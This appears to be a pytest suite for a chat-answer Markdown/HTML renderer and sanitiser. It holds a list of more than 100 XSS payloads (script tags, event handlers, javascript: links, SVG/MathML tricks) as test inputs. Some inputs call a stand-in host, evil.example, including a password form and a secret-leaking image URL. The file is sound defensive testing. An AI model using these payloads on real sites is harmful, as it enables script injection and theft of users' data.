"""Whatever a model or a document says stays text."""

import pytest
from lxml import html as lxml_html

from footnote.answers.markdown import BlockRenderer, render
from footnote.answers.mathml import ELEMENTS
from footnote.answers.safe_html import clean

ALLOWED = {
    "a": {"href", "rel", "target", "class", "data-n", "aria-label"},
    "code": {"class"},
    "div": {"class", "tabindex", "role", "aria-label"},
    "li": {"class"},
    "ol": {"class", "start"},
    "pre": {"class"},
    "span": {"class", "role", "aria-label"},
    "td": {"class"},
    "th": {"class"},
    "ul": {"class"},
    **dict.fromkeys("p br hr h3 h4 h5 h6 blockquote em strong s table thead tbody tr".split(), frozenset()),
    **ELEMENTS,
}
HTML = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    '<IMG SRC="javascript:alert(1);">',
    "<IMG SRC=JaVaScRiPt:alert(1)>",
    "<img src='x' onerror='&#97;lert(1)'>",
    "<img/src=x/onerror=alert(1)>",
    '<img """><script>alert(1)</script>">',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text y=20>x</text></a></svg>",
    "<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<math href='javascript:alert(1)'>x</math>",
    "<math><annotation-xml encoding='text/html'><script>alert(1)</script></annotation-xml></math>",
    "<math><maction actiontype='statusline' xlink:href='javascript:alert(1)'>x</maction></math>",
    "<iframe src=https://evil.example></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=https://evil.example>",
    "<form action=https://evil.example><input name=password><button>go</button></form>",
    "<input autofocus onfocus=alert(1)>",
    "<body onload=alert(1)>",
    "<style>body{display:none}</style>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href=https://evil.example onclick=alert(1)>x</a>",
    "<p style='position:fixed;inset:0'>x</p>",
    "<div class=cites id=chat-sse>x</div>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<textarea><script>alert(1)</script></textarea>",
    "<title><script>alert(1)</script></title>",
    "<xmp><script>alert(1)</script></xmp>",
    "<!--<img src='--><img src=x onerror=alert(1)>'>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo 1 ?>",
    "<!DOCTYPE html><html><head></head></html>",
    "<select><option><script>alert(1)</script></option></select>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<isindex action=javascript:alert(1) type=image>",
    "<table background=javascript:alert(1)><tr><td>x</td></tr></table>",
]
MARKDOWN = [
    "[x](javascript:alert(1))",
    "[x](JAVASCRIPT:alert(1))",
    "[x](java\nscript:alert(1))",
    "[x](java&#115;cript:alert(1))",
    "[x](&#x6A;avascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x]( javascript:alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](\x00javascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](data:image/svg+xml,<svg onload=alert(1)>)",
    "[x](file:///etc/passwd)",
    "[x](blob:https://evil.example/x)",
    "[x](//evil.example)",
    "[x](/api/chat/sessions)",
    "[x](#chat-sse)",
    "[x](?q=1)",
    "[x](https:javascript:alert(1))",
    "[x](http:/\\/evil.example)",
    '[x](https://a.org "onmouseover=alert(1) x=")',
    '[x](https://a.org/"onmouseover="alert(1))',
    "[x](https://a.org/'><script>alert(1)</script>)",
    "[<img src=x onerror=alert(1)>](https://a.org)",
    "![x](javascript:alert(1))",
    "![x](https://evil.example/?q=secret)",
    '![x" onerror="alert(1)](https://evil.example/x.png)',
    "![<script>alert(1)</script>](https://evil.example/x.png)",
    "[![x](https://evil.example/x.png)](javascript:alert(1))",
    "<javascript:alert(1)>",
    '<https://a.org/"onclick=alert(1)>',
    "<data:text/html,x>",
    "[x]: javascript:alert(1)\n\n[x]",
    "[1]: javascript:alert(1)\n\n[1]",
    "```html\n<script>alert(1)</script>\n```",
    '```"onmouseover="alert(1)\nx\n```',
    "```js</code><script>alert(1)</script>\nx\n```",
    "`<script>alert(1)</script>`",
    "| <script>alert(1)</script> |\n|:-:|\n| <img src=x onerror=alert(1)> |",
    "> <script>alert(1)</script>",
    "- <iframe src=https://evil.example>",
    "# <svg onload=alert(1)>",
    "$\\text{<script>alert(1)</script>}$",
    "$\\text{<img src=x onerror=alert(1)>}$",
    "$\\href{javascript:alert(1)}{x}$",
    "$\\style{position:fixed}{x}$",
    "$\\mathrm{</math><script>alert(1)</script>}$",
    "$\\text{</mtext></math><img src=x onerror=alert(1)>}$",
    "$$\n\\text{<style>*{display:none}</style>}\n$$",
    "$\\class{x}{\\cssId{chat-sse}{y}}$",
    "$\\unicode{<img>}$",
    "\\(\\text{&lt;script&gt;alert(1)&lt;/script&gt;}\\)",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "**<b onclick=alert(1)>**",
    "- [x] <input onfocus=alert(1)>",
    "[1, 2](javascript:alert(1))",
    "{{constructor.constructor('alert(1)')()}}",
    "\u202ejavascript:alert(1)",
    "\ud800<script>",
    "</p></div><script>alert(1)</script>",
]


def assert_harmless(html, *, rendered=True):
    root = lxml_html.fragment_fromstring(html, create_parent="section")
    for element in root.iterdescendants():
        assert isinstance(element.tag, str), html
        assert element.tag in ALLOWED, element.tag
        assert set(element.keys()) <= set(ALLOWED[element.tag]), html
        href = element.get("href")
        if href is not None:
            assert element.tag == "a"
            assert href == "#" or href.lower().startswith(("http://", "https://", "mailto:")), href
            assert (href == "#") == (element.get("class") == "cite")
        if rendered and href not in (None, "#"):
            assert element.get("rel") == "noopener noreferrer nofollow"
            assert element.get("target") == "_blank"


def test_there_are_many_of_them():
    """A list worth the name."""
    assert len(HTML) + len(MARKDOWN) >= 100


@pytest.mark.parametrize("text", [*HTML, *MARKDOWN])
def test_hostile_text_gives_listed_elements_attributes_and_addresses_only(text):
    """As a paragraph, behind text, in a quote, a list, a table, and cut into characters."""
    for shape in (
        "{}",
        "text {} text",
        "> {}",
        "- {}",
        "a\n\n{}\n\nb",
        "| a |\n|---|\n| {} |",
        "**{}**",
        "[{}](https://a.org)",
    ):
        assert_harmless(render(shape.replace("{}", text)))
    renderer = BlockRenderer()
    blocks = [block for character in text for block in renderer.feed(character)]
    assert "".join(block.html for block in (*blocks, *renderer.finish())) == render(text)


@pytest.mark.parametrize("html", HTML)
def test_the_sanitiser_alone_holds_when_the_parser_would_let_html_through(html):
    """Two layers: each is safe by itself."""
    assert_harmless(clean(html), rendered=False)


@pytest.mark.parametrize("html", HTML)
def test_hostile_html_is_shown_as_it_was_written(html):
    """Nothing of the text is lost either: the reader sees the characters."""
    shown = lxml_html.fragment_fromstring(render("x " + html), create_parent="section").text_content()
    assert "".join(shown.split()) == "".join(("x" + html).split()).replace("&#97;", "a")
